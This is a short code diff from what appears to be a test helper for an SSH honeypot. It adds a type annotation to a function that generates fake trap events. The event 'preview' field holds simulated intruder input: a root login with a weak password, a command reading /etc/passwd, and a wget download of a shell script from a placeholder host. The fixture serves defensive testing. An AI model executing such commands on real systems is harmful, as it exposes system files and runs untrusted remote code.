@@ -35,7 +35,7 @@ R: Any = reactor
 
 
 def event(n: int) -> Observation:
-    detail = {
+    detail: dict[str, JSONValue] = {
         "trap": "ssh", "transport": "tcp", "local_address": "192.0.2.1", "port": 22,
         "source_port": 40000 + n % 20000, "bytes_received": 512, "duration": 1.5,
         "preview": ("root\r\n123456\r\ncat /etc/passwd; wget http://x/y.sh\r\n" * 4)[:200],
